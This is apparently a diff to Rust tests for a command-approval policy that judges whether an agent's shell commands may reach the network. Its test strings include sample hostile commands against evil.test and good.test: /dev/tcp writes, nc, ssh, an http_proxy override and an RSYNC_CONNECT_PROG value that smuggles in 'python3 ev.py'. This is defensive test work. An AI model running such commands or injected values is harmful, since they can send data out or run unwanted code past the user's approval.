@@ -135,15 +135,21 @@ fn a_question_tells_of_the_network_or_opens_none() {
         decision.tells_network
     };
     for command in [
-        "curl https://evil.test/",
         "git push",
         "cd sub && git commit -m x && git push",
         "ssh evil.test ls",
+        "ssh evil.test ls | tee page",
+        "rsync rsync://evil.test/x .",
+        "git clone git@evil.test:x",
+        "curl ftp://evil.test/x",
+        "echo x > /dev/tcp/evil.test/80",
         "git unknown-alias",
     ] {
         assert!(tells(command), "{command}");
     }
     for command in [
+        "curl https://evil.test/",
+        "git clone https://evil.test/x",
         "./build.sh",
         "cargo test",
         "npm install",
@@ -356,7 +362,7 @@ fn this_machine_needs_no_question_until_a_secret_was_read() {
 }
 
 #[test]
-fn a_grant_gives_the_network_only_if_it_names_a_host_or_publishes() {
+fn a_grant_gives_the_network_only_if_its_question_did() {
     let development = Policy { has_broker: true, ..policy(Mode::Development) };
     let granted = |line: &str, policy: &Policy, approvals: Approvals| {
         let asked = decide(&run(line), policy, &Now::with(Approvals::Ask));
@@ -370,11 +376,92 @@ fn a_grant_gives_the_network_only_if_it_names_a_host_or_publishes() {
         for line in ["cargo test", "npm install", "make", "python3 x.py", "./build.sh x"] {
             assert!(granted(line, &development, approvals).0, "{line} {approvals:?}");
         }
-        for line in ["curl https://named.test/", "git push origin main"] {
+        assert!(granted("curl https://named.test/", &development, approvals).0, "{approvals:?}");
+        for line in ["nc named.test 80", "git push origin main"] {
             assert!(!granted(line, &development, approvals).0, "{line} {approvals:?}");
         }
     }
+    let (_, label) = granted("nc named.test 80", &development, Approvals::Ask);
+    assert!(label.contains("reach the network"), "{label}");
     let without = Policy { has_broker: false, ..development };
     let (stays_inside, label) = granted("cargo test", &without, Approvals::Ask);
     assert!(!stays_inside && label.contains("reach the network"), "{label}");
+}
+
+/// A trail of a user who wrote this.
+fn wrote(text: &str) -> Trail {
+    let mut trail = Trail::default();
+    trail.person_wrote(text);
+    trail
+}
+
+#[test]
+fn a_named_host_opens_no_network() {
+    let trail = wrote("look at http://good.test:8081/ and rsync://good.test/x");
+    let whole = "so a yes gives the command the whole network";
+    for has_broker in [true, false] {
+        let development = Policy { has_broker, ..policy(Mode::Development) };
+        let rules = toml::from_str("allow = [{ fetch = 'ruled.test' }]").unwrap();
+        let development = Policy {
+            rules: development.rules.clone().with(buddy_policy::RuleTier::User, rules),
+            ..development
+        };
+        for approvals in [Approvals::Auto, Approvals::All] {
+            let judged =
+                |line: &str| decide(&run(line), &development, &Now { trail: &trail, ..Now::with(approvals) });
+            for line in [
+                "curl -sL http://good.test:8081/",
+                "http_proxy=http://evil.test:8081 curl -s http://good.test:8081/",
+                "HOME=. curl http://good.test:8081/",
+                "wget -q http://ruled.test/",
+                "git clone https://good.test/x",
+            ] {
+                let decision = judged(line);
+                let expected = if has_broker { (Verdict::Allow, true) } else { (Verdict::Ask, false) };
+                let found = (decision.verdict, decision.stays_inside);
+                assert_eq!(found, expected, "{line} {approvals:?}: {:?}", decision.reasons);
+            }
+            for line in [
+                "RSYNC_CONNECT_PROG='python3 ev.py' rsync rsync://good.test/x .",
+                "ssh good.test ls",
+                "nc ruled.test 80",
+                "git clone git@good.test:x",
+                "git clone ssh://good.test/x",
+                "echo x > /dev/tcp/good.test/80",
+            ] {
+                let decision = judged(line);
+                let reasons = decision.reasons.join("; ");
+                assert_eq!(decision.verdict, Verdict::Ask, "{line} {approvals:?}: {reasons}");
+                assert!(reasons.contains(whole) && decision.tells_network, "{line}: {reasons}");
+            }
+        }
+    }
+}
+
+#[test]
+fn only_a_rule_that_grants_the_network_settles_a_program_without_a_proxy() {
+    let trail = wrote("see ssh://good.test");
+    let judged = |text: &str| {
+        let mut policy = Policy { has_broker: true, ..policy(Mode::Development) };
+        policy.rules.add(buddy_policy::RuleTier::User, toml::from_str(text).unwrap());
+        let now = Now { trail: &trail, ..Now::with(Approvals::Auto) };
+        let decision = decide(&run("nc good.test 80"), &policy, &now);
+        (decision.verdict, decision.stays_inside)
+    };
+    assert_eq!(judged("allow = ['nc *']").0, Verdict::Ask);
+    assert_eq!(judged("allow = [{ command = 'nc *', network = true }]"), (Verdict::Allow, false));
+}
+
+#[test]
+fn the_broker_learns_which_hosts_of_a_command_are_settled() {
+    let development = Policy { has_broker: true, ..policy(Mode::Development) };
+    let reached = |line: &str, trail: &Trail, approvals| {
+        decide(&run(line), &development, &Now { trail, ..Now::with(approvals) }).reached
+    };
+    let named = wrote("look at http://localhost:3000/x");
+    let auto = Approvals::Auto;
+    assert_eq!(reached("curl http://localhost:3000/y", &named, auto), ["localhost:3000"]);
+    assert_eq!(reached("curl http://localhost:9000/", &named, auto), [""; 0], "another port");
+    assert_eq!(reached("curl http://localhost:3000/y", &tainted(named.clone()), auto), ["localhost:3000"]);
+    assert_eq!(reached("curl http://10.0.0.1/", &Trail::default(), Approvals::Ask), ["10.0.0.1:80"]);
 }
